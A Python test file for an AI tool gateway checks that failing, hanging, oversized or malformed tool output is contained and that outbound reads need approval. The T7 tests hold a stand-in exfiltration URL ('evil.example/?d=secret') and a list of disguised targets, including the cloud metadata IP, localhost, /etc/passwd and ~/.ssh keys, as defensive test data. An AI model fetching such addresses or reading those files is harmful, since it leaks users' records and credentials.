"""Tools that raise, hang, give too much or nonsense, or would leave: the faults T1 to T7 at the dispatcher."""

from __future__ import annotations

import asyncio
import threading
import time
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from gateway_world import ANN, World, a_call
from sayso.core.facts import FactKind, Field, FieldType
from sayso.core.messages import CallStatus, ResultReason
from sayso.core.tools import ProposeResult, ReadResult, define_tool
from sayso.errors import Forbidden
from sayso.gateway.bounds import MAX_BYTES, MAX_FACTS, MAX_TEXT
from sayso.gateway.leaving import places_in, strange_places
from sayso.gateway.rules import ruling
from small_world import ELENA, PERSON, SEARCH, Query

pytestmark = pytest.mark.anyio
NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
PAGE = FactKind("page", (Field("title"), Field("size", FieldType.NUMBER)), subject="title")


class Where(BaseModel):
    url: str
    depth: float = 1.0


class Empty(BaseModel):
    pass


def reading(run: Any, name: str = "odd_read", arguments: type[BaseModel] = Empty, **more: Any) -> Any:
    example = {"url": "https://example.org"} if arguments is Where else {}
    return define_tool(
        name, kind="read", description="Read.", arguments=arguments, run=run, example=example, covers=PAGE, **more
    )


def giving(*facts: Any, matched: Any = None, searched: Any = None) -> Any:
    async def run(arguments: Any, context: Any) -> Any:
        count = len(facts) if matched is None else matched
        return ReadResult(facts, count, count if searched is None else searched)

    return reading(run)


@pytest.mark.parametrize(
    "fault",
    [
        ValueError("secret-token-1"), RuntimeError("secret-token-1"), SystemExit("secret-token-1"),
        KeyboardInterrupt("secret-token-1"), BaseExceptionGroup("secret-token-1", [KeyboardInterrupt()]),
        asyncio.CancelledError("secret-token-1"), RecursionError(), TimeoutError("secret-token-1"),
    ],
    ids=lambda fault: type(fault).__name__,
)  # fmt: skip
async def test_t1_whatever_a_tool_raises_is_a_typed_result_without_its_words(world_with: Any, fault: BaseException):
    async def run(arguments: Any, context: Any) -> Any:
        raise fault

    world = world_with(reading(run))
    odd, fine = await asyncio.gather(
        world.dispatcher.dispatch(ANN, a_call("odd_read", {})),
        world.dispatcher.dispatch(ANN, a_call("search_people", {"query": "Elena"})),
    )
    assert (odd.status, odd.reason, odd.facts) == (CallStatus.FAILED, ResultReason.TOOL_FAILED, ())
    assert "secret" not in str(odd.document())
    assert fine.status is CallStatus.SUCCESS


async def test_t2_a_tool_that_hangs_ends_with_its_time(world_with: Any):
    async def run(arguments: Any, context: Any) -> Any:
        await asyncio.Event().wait()

    result = await world_with(reading(run), seconds=0.1).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert (result.status, result.reason) == (CallStatus.FAILED, ResultReason.TOOL_TIMEOUT)


async def test_t2_tools_that_ignore_their_end_are_left_behind_and_cannot_take_more_than_the_places(world_with: Any):
    release = asyncio.Event()

    async def run(arguments: Any, context: Any) -> Any:
        while not release.is_set():
            try:
                await release.wait()
            except asyncio.CancelledError:
                continue
        return ReadResult((), 0, 0)

    world = world_with(reading(run), seconds=0.2)
    pool = world.dispatcher.runner.pool
    stuck = await asyncio.gather(*(world.dispatcher.dispatch(ANN, a_call("odd_read", {})) for _ in range(12)))
    assert {result.reason for result in stuck} == {ResultReason.TOOL_TIMEOUT}
    assert pool.left_behind == 8
    assert (await world.dispatcher.dispatch(ANN, a_call("list_people", {}))).reason is ResultReason.TOOL_TIMEOUT
    release.set()
    for _ in range(20):
        await asyncio.sleep(0)
    assert pool.left_behind == 0
    assert (await world.dispatcher.dispatch(ANN, a_call("list_people", {}))).status is CallStatus.SUCCESS


async def test_t2_a_tool_whose_thread_hangs_ends_with_its_time(world_with: Any):
    release = threading.Event()

    async def run(arguments: Any, context: Any) -> Any:
        await asyncio.to_thread(release.wait, 30)
        return ReadResult((), 0, 0)

    try:
        result = await world_with(reading(run), seconds=0.1).dispatcher.dispatch(ANN, a_call("odd_read", {}))
        assert result.reason is ResultReason.TOOL_TIMEOUT
    finally:
        release.set()


async def test_t3_a_million_rows_are_cut_with_counts_and_others_have_their_turn(world_with: Any):
    row = PAGE.fact({"title": "x"}, source="s", key="k", as_of=NOW)
    world = world_with(giving(*[row] * 1_000_000))
    task = asyncio.create_task(world.dispatcher.dispatch(ANN, a_call("odd_read", {})))
    slowest, last = 0.0, time.monotonic()
    while not task.done():
        await asyncio.sleep(0)
        slowest, last = max(slowest, time.monotonic() - last), time.monotonic()
    result = await task
    assert len(result.facts) == MAX_FACTS + 1
    assert result.facts[-1].values["matched"] == 1_000_000
    assert slowest < 1.0  # a loaded machine; it is a few milliseconds on a free one


async def test_t3_ten_megabytes_are_cut_with_counts(world_with: Any):
    long = PAGE.fact({"title": "x" * 10_000_000}, source="s", key="k", as_of=NOW)
    many = [PAGE.fact({"title": f"{n} " + "é" * 15_000}, source="s", key=str(n), as_of=NOW) for n in range(150)]
    result = await world_with(giving(long, *many)).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert str(result.facts[0].values["title"]).endswith(f"[cut: {MAX_TEXT} of 10000000 characters]")
    assert len(str(result.document())) < 1.5 * MAX_BYTES
    assert result.facts[-1].values["matched"] == 151 > len(result.facts)


async def test_t4_eight_slow_reads_run_beside_each_other_and_each_gets_its_own_result(world_with: Any):
    running = most = 0

    async def run(arguments: Any, context: Any) -> Any:
        nonlocal running, most
        running += 1
        most = max(most, running)
        await asyncio.sleep(0.05)
        running -= 1
        return ReadResult((), int(arguments.depth), 20)

    world = world_with(reading(run, arguments=Where))
    calls = [a_call("odd_read", {"url": "x", "depth": n}) for n in range(12)]
    results = await asyncio.gather(*(world.dispatcher.dispatch(ANN, call) for call in calls))
    assert [result.facts[-1].values["matched"] for result in results] == list(range(12))
    assert most == 8


class _Loop(dict[str, Any]):
    pass


_CYCLE = _Loop()
_CYCLE["self"] = _CYCLE
_GOOD = PAGE.fact({"title": "x"}, source="s", key="k", as_of=NOW)


@pytest.mark.parametrize(
    "nonsense",
    [
        "a text", {"title": "x"}, None, _CYCLE,
        replace(_GOOD, values={"title": "x", "size": float("nan")}), replace(_GOOD, values={"undeclared": "x"}),
        replace(_GOOD, values={"title": _CYCLE}), replace(_GOOD, values={"title": object()}),
        replace(_GOOD, kind="page"), replace(_GOOD, values={"title": ["x"]}),
    ],
    ids=range(10),
)  # fmt: skip
async def test_t5_what_is_no_fact_is_a_bug_of_the_tool(world_with: Any, nonsense: Any):
    result = await world_with(giving(nonsense)).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert (result.status, result.reason, result.facts) == (CallStatus.FAILED, ResultReason.TOOL_FAILED, ())


@pytest.mark.parametrize("count", [-1, True, 1.5, "3", None])
async def test_t5_counts_are_whole_numbers(world_with: Any, count: Any):
    async def run(arguments: Any, context: Any) -> Any:
        return ReadResult((), count, 1)

    result = await world_with(reading(run)).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert result.reason is ResultReason.TOOL_FAILED


async def test_t5_half_characters_are_mended_and_exact_numbers_kept(world_with: Any):
    fact = replace(_GOOD, values={"title": "a\ud800b\x00", "size": Decimal("1.10")})
    result = await world_with(giving(fact)).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert result.facts[0].values["title"] == "a?b\ufffd"
    assert result.document()["facts"][0]["values"]["size"] == {"decimal": "1.10"}


@pytest.mark.parametrize("result", ["words", ("x",), None, 3])
async def test_a_tool_that_returns_words_tells_nothing(world_with: Any, result: Any):
    async def run(arguments: Any, context: Any) -> Any:
        return result

    told = await world_with(reading(run)).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert (told.reason, told.facts) == (ResultReason.TOOL_FAILED, ())


def _outside(asked: list[str]) -> Any:
    async def run(arguments: Where, context: Any) -> ReadResult:
        asked.append(arguments.url)
        return ReadResult((PAGE.fact({"title": arguments.url}, source="web", key=arguments.url, as_of=NOW),), 1, 1)

    return reading(run, "fetch_page", Where, can_leave=True, title="Fetching a page")


async def test_t7_a_read_that_leaves_for_a_place_that_nobody_named_becomes_a_card(world_with: Any):
    """I3: what a page says cannot make reads carry records away."""
    asked: list[str] = []
    world: World = world_with(_outside(asked))
    call = a_call("fetch_page", {"url": "https://evil.example/?d=secret", "depth": 1.5}, question="Summarise my notes")
    waiting = await world.dispatcher.dispatch(ANN, call)
    assert (waiting.status, waiting.facts[0].values["state"], asked) == (CallStatus.SUCCESS, "pending", [])
    (card,) = await world.proposals.list(ANN.desk)
    assert card.content["arguments"] == {
        "tool": "fetch_page", "leaves_for": ["evil.example"],
        "arguments": {"url": "https://evil.example/?d=secret", "depth": "1.5"},
    }  # fmt: skip
    await world.approve(card.id)
    result = await world.dispatcher.dispatch(ANN, replace(call, proposal_id=card.id))
    assert asked == ["https://evil.example/?d=secret"]
    assert [fact.kind.name for fact in result.facts] == ["receipt", "page"]


async def test_a_viewer_sees_and_closes_the_card_of_their_own_read_and_approves_it_not(world_with: Any):
    asked: list[str] = []
    world: World = world_with(_outside(asked))
    viewer = replace(ANN, permissions=frozenset({"read:fetch_page"}))
    await world.dispatcher.dispatch(viewer, a_call("fetch_page", {"url": "https://evil.example/"}, question="Hm"))
    (card,) = await world.proposals.list(viewer.desk)
    assert world.gateway.sees(card, viewer)
    with pytest.raises(Forbidden, match="execute:read_outside"):
        await world.approve(card.id, viewer)
    assert (await world.gateway.deny(card.id, viewer)).values["outcome"] == "denied"
    assert asked == []


@pytest.mark.parametrize(
    ("url", "question", "listed"),
    [
        ("https://example.org/a", "What does https://example.org/a say?", ()),
        ("https://example.org/a?b=c", "What is on example.org?", ()),
        ("https://docs.example.org/a", "Look it up", ("*.example.org",)),
        ("https://example.org/a", "Look it up", ("example.org",)),
        ("intranet", "What is on the intranet today", ()),
    ],
)
async def test_t7_a_place_that_the_user_named_or_the_operator_listed_is_read_at_once(
    world_with: Any, url: str, question: str, listed: tuple[str, ...]
):  # fmt: skip
    asked: list[str] = []
    world = world_with(_outside(asked), may_leave_to=listed)
    await world.dispatcher.dispatch(ANN, a_call("fetch_page", {"url": url}, question=question))
    assert asked == [url]


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org@evil.example/", "https://example.org.evil.example/", "//evil.example/x", "http://2130706433/",
        "https:\\\\evil.example\\x", "HTTPS://EVIL.EXAMPLE", "https%3A%2F%2Fevil.example", "mail bob@evil.example",
        "ｅｖｉｌ.example", "http://[::1]:80/", "169.254.169.254", "localhost:9000", "/etc/passwd", "~/.ssh/id", "C:\\x",
        "\\\\host\\share", "../../secret", "ftp://evil.example", "evilexample", "gopher://x", "http:evil.example",
    ],
)  # fmt: skip
async def test_t7_a_place_in_disguise_is_still_nobodys(world_with: Any, url: str):
    asked: list[str] = []
    world = world_with(_outside(asked), may_leave_to=("example.org", "*.example.org"))
    result = await world.dispatcher.dispatch(
        ANN, a_call("fetch_page", {"url": url}, question="Read example.org for me")
    )
    assert (asked, result.facts[0].kind.name) == ([], "proposal"), places_in(url)


async def test_t7_a_model_in_this_process_leaves_no_more_than_any_other_caller(world_with: Any):
    from sayso.core.evidence import Evidence
    from sayso.core.messages import ToolCall
    from sayso.core.tools import ToolContext
    from sayso.gateway.inprocess import InProcess

    asked: list[str] = []
    world = world_with(_outside(asked))
    context = ToolContext(ANN, NOW, "en", "Summarise my notes")
    runner = InProcess(world.dispatcher.runner, world.registry, context, Evidence(), "th", "ex")
    result = await runner.run(ToolCall("c1", "fetch_page", '{"url": "https://evil.example"}'))
    assert (asked, result.facts[0].fact.values["state"]) == ([], "pending")
    for raw in ("[1]", "{", "[" * 100_000, '{"url":' + "[" * 900 + "]" * 900 + "}", "x" * 70_000):
        refused = await runner.run(ToolCall("c2", "fetch_page", raw))
        assert refused.status is CallStatus.FAILED
    twice = await runner.run(ToolCall("c3", "search_people", '"{\\"query\\": \\"Elena\\"}"'))
    assert twice.facts[0].fact is ELENA or twice.facts[0].fact.subject == "Elena Weber"


@given(st.text(max_size=60), st.text(max_size=30))
def test_looking_for_places_takes_any_text(text: str, question: str):
    found = strange_places({"a": [text, {"b": text}]}, question, ("example.org",))
    assert set(found) <= {*places_in(text), *places_in("b")}
    assert strange_places({"a": text}, text, ()) == ()


def test_a_rule_is_the_same_for_listing_and_for_calling_whatever_is_permitted():
    from sayso.core.tools import Actor
    from sayso.gateway.rules import may_list

    for permissions in (
        {"read:search_people"},
        {"read:kind:person"},
        {"read:*"},
        {"*"},
        {"propose:*"},
        set(),
        {"read"},
    ):
        actor = Actor("a", "home", frozenset(permissions))
        assert may_list(actor, SEARCH) is ruling(actor, SEARCH, {"query": "x"}).allowed
    assert Query(query="x").query == "x"
    assert SEARCH.covers is PERSON


async def test_a_tools_own_validation_error_is_a_fault_of_the_tool(world_with: Any):
    async def run(arguments: Any, context: Any) -> Any:
        return Where.model_validate({"url": 1})

    result = await world_with(reading(run)).dispatcher.dispatch(ANN, a_call("odd_read", {}))
    assert (result.reason, result.rule) == (ResultReason.TOOL_FAILED, "")


async def test_records_that_a_change_may_mean_are_offered_only_to_those_who_may_see_them(world_with: Any):
    async def run(arguments: Any, context: Any) -> Any:
        return ProposeResult(None, (ELENA,))

    tool = define_tool("choose", kind="propose", description="x", arguments=Empty, run=run, example={})
    world = world_with(tool)
    assert (await world.dispatcher.dispatch(ANN, a_call("choose", {}))).reason is ResultReason.NEEDS_CHOICE
    blind = replace(ANN, permissions=frozenset({"propose:choose"}))
    result = await world.dispatcher.dispatch(blind, a_call("choose", {}))
    assert (result.reason, result.facts) == (ResultReason.NO_TARGET, ())
